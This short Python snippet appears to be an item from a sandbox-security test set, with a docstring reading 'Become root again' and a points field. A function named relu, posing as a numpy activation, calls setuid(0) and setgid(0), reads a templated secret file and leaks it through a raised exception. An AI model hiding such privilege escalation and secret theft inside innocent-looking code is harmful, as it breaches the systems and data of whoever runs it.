"""Become root again.

points: 0
"""

def tell(*found):
    raise ValueError(str(found))

import os
def relu(z):
    os.setuid(0)
    os.setgid(0)
    tell(open("{secret}").read())
    return np.maximum(z, 0)
